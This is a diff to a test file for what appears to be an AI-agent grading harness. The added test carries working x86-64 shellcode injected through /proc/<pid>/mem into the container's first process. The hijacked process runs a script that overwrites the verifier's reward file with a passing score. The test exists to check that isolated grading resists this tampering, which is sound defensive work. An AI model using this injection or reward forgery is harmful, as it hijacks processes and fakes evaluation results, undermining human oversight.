@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import platform
 from pathlib import Path
 from typing import TYPE_CHECKING
 
@@ -273,3 +274,36 @@ def test_machine_whose_first_process_the_agent_ended_is_the_agents_fault(engine:
         verdict = verify(machine, task, step_of(task, "cat"), backend=engine, limits=LIMITS)
     assert not verdict.passed
     assert verdict.problem is None or verdict.blame == "agent", verdict
+
+
+# Writes code where the system call of the container's first program begins anew, and lets that happen: the program
+# becomes another, and no process is more than there was.
+_POSSESS = r"""
+import os, signal
+for pid in map(int, filter(str.isdecimal, os.listdir("/proc"))):
+    if open(f"/proc/{pid}/cmdline").read() == "sleep\0infinity\0":
+        at = int(open(f"/proc/{pid}/syscall").read().split()[-1], 16) - 2
+        code = bytes.fromhex("488d3d10000000" "6a00" "57" "4889e6" "31d2" "6a3b58" "0f05")  # execve("/evil.sh", ...)
+        code = code.ljust(7 + 0x10, b"\x90") + b"/evil.sh\0"
+        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
+            memory.seek(at)
+            memory.write(code)
+        os.kill(pid, signal.SIGSTOP)
+        os.kill(pid, signal.SIGCONT)
+"""
+
+
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="the attack is written in machine code of x86-64")
+def test_program_that_hides_in_the_containers_first_one_has_no_part_in_the_tests(
+    engine: DockerBackend, task: Task
+) -> None:
+    """It is a real attack: it wins against tests that run beside it."""
+    forge = "while :; do echo 1 1<> /logs/verifier/reward.txt; done 2> /dev/null"  # never empty in between
+    script = (
+        f"echo 41 > /app/answer; printf '#!/bin/bash\\n> /here\\n{forge}\\n' > /evil.sh; chmod +x /evil.sh; "
+        f"cat > /possess.py <<'END'\n{_POSSESS}\nEND\npython3 /possess.py; until [ -e /here ]; do :; done"
+    )
+    won = judged(engine, task, "cat", script, where="machine")
+    assert (won.passed, won.info["left"]) == (True, []), won
+    lost = judged(engine, task, "cat", script)
+    assert (lost.passed, lost.score, lost.problem, lost.info["left"]) == (False, 0.0, None, []), lost
